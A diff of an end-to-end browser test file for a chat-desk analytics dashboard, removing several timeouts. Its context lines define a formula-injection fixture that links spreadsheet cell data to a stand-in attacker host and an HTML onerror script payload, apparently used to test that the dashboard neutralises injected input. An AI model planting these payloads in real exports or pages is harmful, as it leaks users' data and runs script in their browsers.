@@ -13,7 +13,7 @@ from e2e.dashboard_pages import accessible, does_not_scroll_sideways, open_dashb
 from peers.fake_model_server import FakeModelServer
 from peers.running_desk import RunningDesk, running_desk
 
-pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]
+pytestmark = pytest.mark.browser
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
 MARKUP = "<img src=x onerror=window.broken.push('run')>"
@@ -64,7 +64,7 @@ async def test_figures_charts_and_tables_tell_what_was_written(busy: RunningDesk
     await expect(card(page, "Ratings").get_by_role("row", name="4 of 5")).to_contain_text("1")
     await expect(card(page, "Why chats were handed over").get_by_role("row")).not_to_have_count(0)
     await expect(page.get_by_role("img", name="Chats per day. 4 chats; the busiest day was")).to_be_visible()
-    await expect(page.locator("svg.recharts-surface")).to_have_count(4, timeout=20_000)
+    await expect(page.locator("svg.recharts-surface")).to_have_count(4)
     assert await page.locator("main img").count() == 0
     # Drawn and as a table, by keyboard.
     hours = card(page, "Chats by hour")
@@ -136,7 +136,7 @@ async def test_a_desk_that_fails_is_told_and_asked_again(busy: RunningDesk, brow
 
 async def test_axe_finds_nothing_and_nothing_is_wider_than_the_window(busy: RunningDesk, browser: Browser):
     page, watch = await open_dashboard(browser, busy.base_url, "/analytics")
-    await expect(page.locator("svg.recharts-surface")).to_have_count(4, timeout=20_000)
+    await expect(page.locator("svg.recharts-surface")).to_have_count(4)
     await accessible(page, "analytics")
     await page.set_viewport_size({"width": 320, "height": 640})
     await does_not_scroll_sideways(page)
